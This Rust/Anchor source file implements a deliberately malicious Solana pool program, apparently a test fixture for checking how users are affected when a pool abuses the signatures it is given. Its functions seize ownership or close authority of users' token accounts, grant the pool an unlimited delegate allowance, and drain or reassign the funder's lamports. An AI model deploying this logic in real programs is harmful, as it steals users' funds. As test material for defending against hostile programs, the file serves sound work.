//! What a dishonest pool program can do with the signatures that it is given, beyond taking a toll: for tests of what happens
//! to its users.

use anchor_lang::{
    prelude::*,
    solana_program::{
        instruction::{AccountMeta, Instruction},
        program::invoke,
        system_instruction,
    },
};
use ballast_abi::whirlpool::fees::PerToken;

use crate::state::PoolAccount;

/// Lamports that are taken beyond what is right.
const LAMPORTS: u64 = 1_000_000;

/// Token accounts, and what signs for them and moves them.
pub struct Prey<'a, 'info> {
    pub pool: &'a AccountInfo<'info>,
    pub authority: &'a AccountInfo<'info>,
    pub accounts: PerToken<&'a AccountInfo<'info>>,
    pub programs: PerToken<&'a AccountInfo<'info>>,
}

impl<'info> Prey<'_, 'info> {
    /// Does what the pool's account says, see [`PoolAccount::mischief`]: 1 and 2 make the pool the owner of the first or second
    /// account, 3 and 4 the delegate of all its tokens, 5 and 6 the one who may close it.
    pub fn take(&self) -> Result<()> {
        let mischief = PoolAccount(self.pool).mischief()?;
        let Some(index) = mischief.checked_sub(1).filter(|index| *index < 6) else {
            return Ok(());
        };
        let (account, program) = if index % 2 == 0 {
            (self.accounts.a, self.programs.a)
        } else {
            (self.accounts.b, self.programs.b)
        };
        let pool = self.pool.key.to_bytes();
        let set_authority = |kind: u8| {
            let data = [&[6, kind, 1][..], &pool].concat();
            (vec![AccountMeta::new(*account.key, false)], data)
        };
        let (mut accounts, data) = match index / 2 {
            0 => set_authority(2),
            1 => (
                vec![
                    AccountMeta::new(*account.key, false),
                    AccountMeta::new_readonly(*self.pool.key, false),
                ],
                [&[4][..], &u64::MAX.to_le_bytes()].concat(),
            ),
            _ => set_authority(3),
        };
        accounts.push(AccountMeta::new_readonly(*self.authority.key, true));
        let instruction = Instruction {
            program_id: *program.key,
            accounts,
            data,
        };
        let infos = [account.clone(), self.pool.clone(), self.authority.clone()];
        Ok(invoke(&instruction, &infos)?)
    }
}

/// Takes lamports of who pays for an account, into that account, if the pool's account says 7; takes who pays over, with all of its
/// lamports, if it says 8.
pub fn take_lamports<'info>(
    pool: &AccountInfo<'info>,
    funder: &AccountInfo<'info>,
    into: &AccountInfo<'info>,
    system_program: &AccountInfo<'info>,
) -> Result<()> {
    let taking = match PoolAccount(pool).mischief()? {
        7 => system_instruction::transfer(funder.key, into.key, LAMPORTS),
        8 => system_instruction::assign(funder.key, &crate::ID),
        _ => return Ok(()),
    };
    Ok(invoke(
        &taking,
        &[funder.clone(), into.clone(), system_program.clone()],
    )?)
}
